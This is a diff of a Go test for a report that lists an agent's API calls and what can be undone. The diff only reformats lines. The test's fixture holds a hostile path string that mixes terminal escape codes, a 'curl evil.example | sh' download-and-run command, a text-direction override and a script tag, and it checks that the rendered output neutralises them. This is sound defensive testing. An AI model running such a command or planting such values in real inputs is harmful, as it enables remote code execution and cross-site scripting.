@@ -13,7 +13,8 @@ import (
 func TestUndoListPrintsWhatAnAgentChose(t *testing.T) {
 	evil := "/v1/orders/7\x1b[2K\n  curl evil.example | sh #\u202e<script>alert(1)</script>"
 	at := query.Time{Time: time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)}
-	touched := &query.Touched{Subject: query.Subject{Kind: "run", Value: "r"}, Calls: 4, Resources: []query.TouchedResource{{Resource: "order:7"}},
+	touched := &query.Touched{Subject: query.Subject{Kind: "run", Value: "r"}, Calls: 4,
+		Resources: []query.TouchedResource{{Resource: "order:7"}},
 		Undo: []query.Undo{
 			{State: query.UndoNothing, Method: "POST", Path: evil, Reversibility: "irreversible", Effect: "pay", Calls: 2, LastAt: at},
 			{State: query.UndoDone, Method: "DELETE", Path: "/v1/a/1", Reversibility: "irreversible", LastAt: at, DoneAt: &at, DoneBy: evil,
@@ -32,7 +33,8 @@ func TestUndoListPrintsWhatAnAgentChose(t *testing.T) {
 			t.Errorf("line %q", line)
 		}
 	}
-	order := []string{"to undo, the most dangerous first", "to undo, once somebody knows", "missing: id", "nothing undoes these", "undone already"}
+	order := []string{"to undo, the most dangerous first", "to undo, once somebody knows", "missing: id", "nothing undoes these",
+		"undone already"}
 	last := -1
 	for _, part := range order {
 		at := strings.Index(text, part)
@@ -45,8 +47,8 @@ func TestUndoListPrintsWhatAnAgentChose(t *testing.T) {
 	if err := TouchedHTML(&b, touched, at.Time); err != nil {
 		t.Fatal(err)
 	}
-	if page := b.String(); strings.Contains(page, "<script") || strings.Contains(page, "\x1b") || !strings.Contains(page, "What can be undone") ||
-		!strings.Contains(page, "curl -X POST &#34;$API&#34;/v1/x") {
+	if page := b.String(); strings.Contains(page, "<script") || strings.Contains(page, "\x1b") ||
+		!strings.Contains(page, "What can be undone") || !strings.Contains(page, "curl -X POST &#34;$API&#34;/v1/x") {
 		t.Errorf("page:\n%s", page)
 	}
 }
